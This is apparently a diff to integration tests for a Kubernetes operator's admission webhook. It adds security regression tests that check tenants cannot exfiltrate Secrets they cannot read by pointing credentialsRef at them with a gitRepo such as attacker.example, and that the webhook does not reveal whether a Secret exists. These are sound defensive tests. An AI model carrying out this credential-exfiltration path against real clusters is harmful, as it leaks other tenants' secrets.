@@ -19,6 +19,7 @@ import { Informer } from "../lib/runtime/informer.ts";
 import { silentLogger } from "../lib/runtime/log.ts";
 import { base64 } from "../webhooks/admission.ts";
 import { webhookApp } from "../webhooks/app.ts";
+import { subjectAccessReviews } from "../webhooks/authorize.ts";
 import { reconcileWebhookCertificates } from "../webhooks/certificates.ts";
 import { webhookConfigurations } from "../webhooks/configurations.ts";
 import { informerLookup, type LookupInformers, LookupNotReady } from "../webhooks/lookup.ts";
@@ -64,7 +65,11 @@ function setup(): Promise<Fixture> {
       usage: "server",
       days: 1,
     });
-    const app = webhookApp({ lookup: informerLookup(informers, client), defaultGitRepo: DEFAULT_REPO });
+    const app = webhookApp({
+      lookup: informerLookup(informers),
+      access: subjectAccessReviews(client),
+      defaultGitRepo: DEFAULT_REPO,
+    });
     const server = await startWebhookServer({ app, hostname: "127.0.0.1", port: 0, tls: serving });
     const { validating, mutating } = webhookConfigurations({
       name: CONFIG_NAME,
@@ -216,7 +221,6 @@ Deno.test("kubectl apply: warnings are printed and the cluster is stored", async
   for (
     const w of [
       "Warning: spec.controlPlane.count: 3 Machines wanted but only 2 (cp-1, cp-2) match role=cp and are available;",
-      "Warning: spec.credentialsRef.name: Secret git-creds does not exist in namespace",
     ]
   ) assert.ok(r.stderr.includes(w), r.stderr);
   assert.ok(await getCluster(f, ns, "small"));
@@ -304,6 +308,113 @@ Deno.test("kubectl apply: unsafe updates are refused, metadata changes always pa
   );
 });
 
+Deno.test("finding 1: a tenant who may edit clusters but not read Secrets cannot point credentialsRef at one", async () => {
+  const f = await setup();
+  const ns = await f.cp.namespace("tenant");
+  await machines(f, ns, ["cp-1", "cp-2"]);
+  const user = "tenant-alice";
+  const rbac = [
+    {
+      apiVersion: "rbac.authorization.k8s.io/v1",
+      kind: "Role",
+      metadata: { name: "cluster-editor", namespace: ns },
+      rules: [
+        { apiGroups: ["nico.homystack.com"], resources: ["kubernetesclusters"], verbs: ["*"] },
+        { apiGroups: [""], resources: ["secrets"], resourceNames: ["own-token"], verbs: ["get"] },
+      ],
+    },
+    {
+      apiVersion: "rbac.authorization.k8s.io/v1",
+      kind: "RoleBinding",
+      metadata: { name: "cluster-editor", namespace: ns },
+      roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "Role", name: "cluster-editor" },
+      subjects: [{ apiGroup: "rbac.authorization.k8s.io", kind: "User", name: user }],
+    },
+  ];
+  for (const obj of rbac) {
+    const r = await apply(f.cp, JSON.stringify(obj));
+    assert.equal(r.code, 0, r.stderr);
+  }
+  for (const name of ["deploy-token", "own-token"]) {
+    await f.client.create(SECRETS, {
+      metadata: { name, namespace: ns },
+      data: { token: base64(`${name}-value`) },
+    } as any);
+  }
+  const kubeconfig = await f.cp.userKubeconfig(user, ["tenants"]);
+  const asTenant = (json: string) => f.cp.kubectl(["apply", "-f", "-"], { stdin: json, kubeconfig });
+  const spec = (credentials: string, gitRepo = "https://git.example.test/tenant.git", machine = "cp-1") => ({
+    gitRepo,
+    credentialsRef: { name: credentials },
+    controlPlane: { machines: [machine] },
+  });
+
+  // The user really cannot read the Secret: the API server says so itself.
+  const direct = await f.cp.kubectl(["get", "secret", "deploy-token", "-n", ns], { kubeconfig });
+  assert.notEqual(direct.code, 0);
+  assert.match(direct.stderr, /forbidden/);
+
+  const stolen = await asTenant(clusterJson(ns, "steal", spec("deploy-token", "https://attacker.example/x.git")));
+  assert.notEqual(stolen.code, 0, "the exfiltration attempt was admitted");
+  assert.ok(
+    stolen.stderr.includes(
+      `spec.credentialsRef.name: user ${user} may not get Secret deploy-token in namespace ${ns}, so it cannot make NICO send that Secret to a Git server; ask for get access to that Secret, or have someone who has it set spec.credentialsRef`,
+    ),
+    stolen.stderr,
+  );
+  assert.equal(await getCluster(f, ns, "steal"), undefined);
+
+  const own = await asTenant(clusterJson(ns, "mine", spec("own-token")));
+  assert.equal(own.code, 0, own.stderr);
+
+  // A cluster an admin set up with a Secret the tenant cannot read: the tenant may edit other fields,
+  // but not send that Secret elsewhere by changing gitRepo.
+  const admin = await apply(f.cp, clusterJson(ns, "shared", spec("deploy-token", undefined, "cp-2")));
+  assert.equal(admin.code, 0, admin.stderr);
+  await eventually("the informer to see cluster shared", () => f.informers.clusters.get(ns, "shared"));
+  const moved = await f.cp.kubectl(
+    [
+      "patch",
+      "kubernetesclusters",
+      "shared",
+      "-n",
+      ns,
+      "--type=merge",
+      "-p",
+      '{"spec":{"gitRepo":"https://attacker.example/y.git"}}',
+    ],
+    { kubeconfig },
+  );
+  assert.notEqual(moved.code, 0, "a new gitRepo for someone else's Secret was admitted");
+  assert.match(moved.stderr, /spec\.credentialsRef\.name: user tenant-alice may not get Secret deploy-token/);
+  const paused = await f.cp.kubectl(
+    ["patch", "kubernetesclusters", "shared", "-n", ns, "--type=merge", "-p", '{"spec":{"paused":true}}'],
+    { kubeconfig },
+  );
+  assert.equal(paused.code, 0, paused.stderr);
+  assert.equal((await getCluster(f, ns, "shared")).spec.gitRepo, "https://git.example.test/tenant.git");
+});
+
+Deno.test("finding 5: the webhook answers the same whether or not a credentialsRef Secret exists", async () => {
+  const f = await setup();
+  const ns = await f.cp.namespace("probe-secret");
+  await machines(f, ns, ["cp-1"]);
+  await f.client.create(SECRETS, { metadata: { name: "exists", namespace: ns }, data: { token: "eA==" } } as any);
+  const answers: string[] = [];
+  for (const name of ["exists", "does-not-exist"]) {
+    const r = await apply(
+      f.cp,
+      clusterJson(ns, "c", { credentialsRef: { name }, controlPlane: { machines: ["cp-1"] } }),
+      [
+        "--dry-run=server",
+      ],
+    );
+    assert.equal(r.code, 0, r.stderr);
+    answers.push(r.stderr.replaceAll(name, "<name>"));
+  }
+  assert.equal(answers[0], answers[1], "the answer depends on whether the Secret exists");
+});
+
 Deno.test("NICO's own certificates: Secret, CA bundle, renewal and reload", async () => {
   const f = await setup();
   const ns = await f.cp.namespace("nico-system");
@@ -316,7 +427,11 @@ Deno.test("NICO's own certificates: Secret, CA bundle, renewal and reload", asyn
     webhook: { name, url: `https://127.0.0.1:${port}` },
   };
   let hits = 0;
-  const inner = webhookApp({ lookup: informerLookup(f.informers, f.client), defaultGitRepo: DEFAULT_REPO });
+  const inner = webhookApp({
+    lookup: informerLookup(f.informers),
+    access: subjectAccessReviews(f.client),
+    defaultGitRepo: DEFAULT_REPO,
+  });
   const counting = { fetch: (req: Request) => (hits++, inner.fetch(req)) };
   let server: WebhookServer | undefined;
   const readSecret = async () => (await f.client.get<TlsSecret>(SECRETS, "nico-webhook-tls", ns))!;
@@ -335,7 +450,6 @@ Deno.test("NICO's own certificates: Secret, CA bundle, renewal and reload", asyn
     assert.equal(first.caCreated, true);
     const secret = await readSecret();
     assert.equal(secret.type, "kubernetes.io/tls");
-    assert.equal(await informerLookup(f.informers, f.client).secretExists(ns, "nico-webhook-tls"), true);
     assert.deepEqual(Object.keys(secret.data ?? {}).sort(), ["ca.crt", "ca.key", "tls.crt", "tls.key"]);
     const caPem = secretText(secret, "ca.crt")!;
     assert.ok(await signedBy(secretText(secret, "tls.crt")!, caPem));
@@ -389,13 +503,12 @@ Deno.test("informerLookup refuses to answer before its caches sync; secretTls sa
     configs: f.informers.configs,
     clusters: f.informers.clusters,
   };
-  const lookup = informerLookup(cold, f.client);
+  const lookup = informerLookup(cold);
   assert.throws(
     () => lookup.machines("default"),
     (err) => err instanceof LookupNotReady && /cache of machines is still loading/.test(err.message),
   );
   assert.deepEqual(lookup.configurations("no-such-namespace"), []);
-  assert.equal(await lookup.secretExists("default", "no-such-secret"), false);
   await assert.rejects(
     secretTls(f.client, "default", "no-such-secret").load(),
     /Secret default\/no-such-secret does not exist yet; the leader creates it/,
